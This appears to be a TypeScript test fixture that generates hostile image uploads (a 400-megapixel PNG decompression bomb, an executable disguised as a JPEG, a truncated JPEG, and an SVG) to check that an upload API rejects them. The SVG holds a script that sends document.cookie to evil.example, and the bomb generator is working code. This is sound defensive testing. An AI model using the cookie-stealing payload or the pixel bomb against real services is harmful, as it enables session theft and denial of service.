import { crc32, deflateSync } from 'node:zlib';
import { fixturePhoto, type PhotoFile } from '../helpers/generation';

/**
 * Hostile "photos": files that claim to be images and are not, or are images built to hurt the decoder. Each is
 * small enough to pass the API's size checks, so it reaches PrepareReferences, which must refuse it by decoding.
 */

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/**
 * A real, fully valid PNG of `side`×`side` pixels (1-bit greyscale, all black): a pixel bomb. 20000×20000 is 400
 * megapixels — 1.2 GB as RGB once decoded — in about 50 KB of file.
 */
export function pixelBombPng(side = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const row = Buffer.alloc(1 + Math.ceil(side / 8)); // filter byte 0 + packed pixels, all zero
  const raw = Buffer.alloc(row.length * side);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** An SVG that would run a script if it were ever served inline from our origin. */
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024">' +
    '<script type="text/javascript">fetch("https://evil.example/?c="+document.cookie)</script>' +
    '<rect width="1024" height="1024" fill="#123"/></svg>',
);

/** The hostile files of the issue that fit the API's size limits, each with the reason it must be refused for. */
export function hostilePhotos(): { file: PhotoFile; reason: string }[] {
  const jpeg = fixturePhoto('obama.jpg').bytes;
  return [
    {
      file: {
        name: 'selfie.jpg',
        bytes: Buffer.from('MZ\x90\x00 not a photo at all'),
        contentType: 'image/jpeg',
      },
      reason: 'is not an image we can read (use JPG, PNG, WebP or HEIC)',
    },
    {
      file: { name: 'selfie.svg', bytes: SVG_WITH_SCRIPT, contentType: 'image/svg+xml' },
      reason: 'is not an image we can read (use JPG, PNG, WebP or HEIC)',
    },
    {
      file: { name: 'bomb.png', bytes: pixelBombPng(), contentType: 'image/png' },
      reason: 'has more than 50 megapixels',
    },
    {
      // The header and the first scans survive; the rest of the entropy-coded data and EOI are gone.
      file: {
        name: 'cut.jpg',
        bytes: jpeg.subarray(0, Math.floor(jpeg.length / 2)),
        contentType: 'image/jpeg',
      },
      reason: 'is not an image we can read (use JPG, PNG, WebP or HEIC)',
    },
  ];
}
